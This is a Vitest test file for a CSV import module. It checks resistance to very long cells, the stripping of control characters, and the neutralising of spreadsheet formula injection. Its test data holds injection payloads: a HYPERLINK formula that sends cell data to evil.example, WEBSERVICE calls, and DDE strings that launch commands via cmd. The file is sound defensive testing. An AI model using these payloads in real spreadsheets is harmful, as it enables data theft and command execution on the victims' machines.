import { describe, expect, it } from "vitest";
import { asPlainText, isFormula } from "../../../src/features/imports/csv-cell.ts";
import { checkLine } from "../../../src/features/imports/dry-run.ts";
import { mapHeadings } from "../../../src/features/imports/mapping.ts";
import { readCsv } from "../../../src/features/imports/reading/csv.ts";
import { tidy } from "../../../src/features/imports/reading/line.ts";

/** Long enough that a quadratic algorithm would exceed the time-out. */
const LONG = 90_000;
const HEADINGS = ["Name", "Phone", "Email", "Birthday", "Gender", "Tags", "Field: Zalo"];

describe("a cell of an untrusted file", () => {
  it.each([
    ["blanks inside", `a${" ".repeat(LONG)}a`],
    ["bars after a sign", `+${"|".repeat(LONG)}`],
    ["signs and semicolons", "+;".repeat(LONG / 2)],
    ["tabs and apostrophes", `\t'${"\t".repeat(LONG)}+`],
  ])("does not block the bot by its %s", (_, cell) => {
    expect(isFormula(tidy(cell))).toBe(false);
    expect(asPlainText(cell).length).toBeGreaterThanOrEqual(cell.length);
  });

  it("does not block the bot by a first line without an end", async () => {
    async function* pieces() {
      for (let piece = 0; piece < 8; piece += 1) yield "a".repeat(16_000);
    }
    await expect(readCsv(pieces()).next()).rejects.toThrow("line-too-long");
  });

  it.each(HEADINGS)("is refused as too long for the column %s before any other check", (heading) => {
    const [mapping] = mapHeadings(HEADINGS, "customers", "en");
    if (mapping === undefined) throw new Error("the headings match no kind");
    const cells = HEADINGS.map((one) => (one === heading ? "0".repeat(LONG) : ""));
    expect(checkLine(mapping, { cells }, "2026-11-25")).toMatchObject({
      faults: expect.arrayContaining([{ fault: "too-long", field: heading }]),
    });
  });

  it("loses control characters", () => {
    expect(tidy("\u0000An\u0007 \u0000")).toBe("An");
  });

  it.each([
    '+1+HYPERLINK("http://evil.example/?"&A2,"xem")',
    '+_xlfn.WEBSERVICE("http://evil.example")',
    "-1*WEBSERVICE(A2)",
    "@lan",
    "- gọi lại (sáng)",
    "+84-867-123-456",
    "＝1+1",
    "ghi chú; =cmd|' /C calc'!A0",
    "dòng một\n=cmd|' /C calc'!A0\n-hai",
    "a;b",
    "+84 867 123 456",
    "-5",
    "'=cmd|' /C calc'!A0",
  ])("is nothing a spreadsheet would execute, and comes back unchanged: %s", (cell) => {
    const written = asPlainText(cell);
    const parts = written.split(/[;\t\r\n]/).map((part) => part.trim());
    expect(parts.filter((part) => /^[=+\-@＝＋－＠]/.test(part) && !/^[+-][\d ]+$/.test(part))).toEqual([]);
    expect(tidy(written)).toBe(cell);
  });
});
